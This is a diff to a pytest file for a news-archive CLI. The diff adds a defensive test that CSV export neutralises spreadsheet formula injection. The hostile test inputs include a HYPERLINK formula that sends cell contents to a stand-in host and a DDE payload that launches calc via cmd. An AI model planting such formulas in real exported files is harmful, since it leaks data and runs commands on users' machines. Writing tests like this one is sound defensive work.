@@ -18,7 +18,7 @@ import pytest
 from click.testing import CliRunner
 
 from district_archive.cli import main
-from pipelines.export import ExportError, export_rows, plan_export
+from pipelines.export import ExportError, export_rows, neutralise_formula, plan_export
 from pipelines.store import Archive
 from pipelines.text import fold
 from tests.conftest import ROOT
@@ -68,7 +68,8 @@ def test_every_format_round_trips_every_row(archive_path, db, fmt, table):
     key = next(iter(expected[0]))
     for got, want in zip(rows, expected):
         if fmt == "csv":  # CSV is text: compare as text
-            assert got == {k: "" if v is None else str(v) for k, v in want.items()}
+            assert got == {k: "" if v is None else str(neutralise_formula(v))
+                           for k, v in want.items()}
         else:
             assert got == want
 
@@ -272,3 +273,25 @@ def test_excel_csv_begins_with_a_bom_and_holds_the_same_rows(archive_path, tmp_p
     json_with_bom = CliRunner().invoke(main, ["export", "--db", str(archive_path), "--table",
                                               "articles", "--format", "json", "--excel"])
     assert json_with_bom.exit_code == 2 and "--excel" in json_with_bom.output
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """OWASP CSV injection: text starting with = + - @ TAB CR gets a leading ' in CSV (numbers
+    and plain numbers in text stay as they are); JSON keeps the text verbatim."""
+    db = tmp_path / "archive.db"
+    archive = Archive(db)
+    hostile = ['=HYPERLINK("http://elsewhere.test/?"&A1,"xem")', "+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
+    harmless = ["-5", "+84", "12,5%", "Kiến Thụy", "", "a=b"]
+    archive.upsert_site({"id": "s", "name": "S", "family": "generic", "base_url": "http://s.test"})
+    for i, title in enumerate(hostile + harmless):
+        archive.store_article(None, {"url": f"http://s.test/{i}", "site": "s", "title": title,
+                                     "body_text": "x"})
+    archive.close()
+    out = CliRunner().invoke(main, ["export", "--db", str(db), "--table", "articles",
+                                    "--format", "csv"]).stdout
+    titles = [row["title"] for row in csv.DictReader(io.StringIO(out))]
+    assert titles == ["'" + t for t in hostile] + harmless
+    out = CliRunner().invoke(main, ["export", "--db", str(db), "--table", "articles",
+                                    "--format", "jsonl"]).stdout
+    assert [json.loads(line)["title"] for line in out.splitlines()] == hostile + harmless
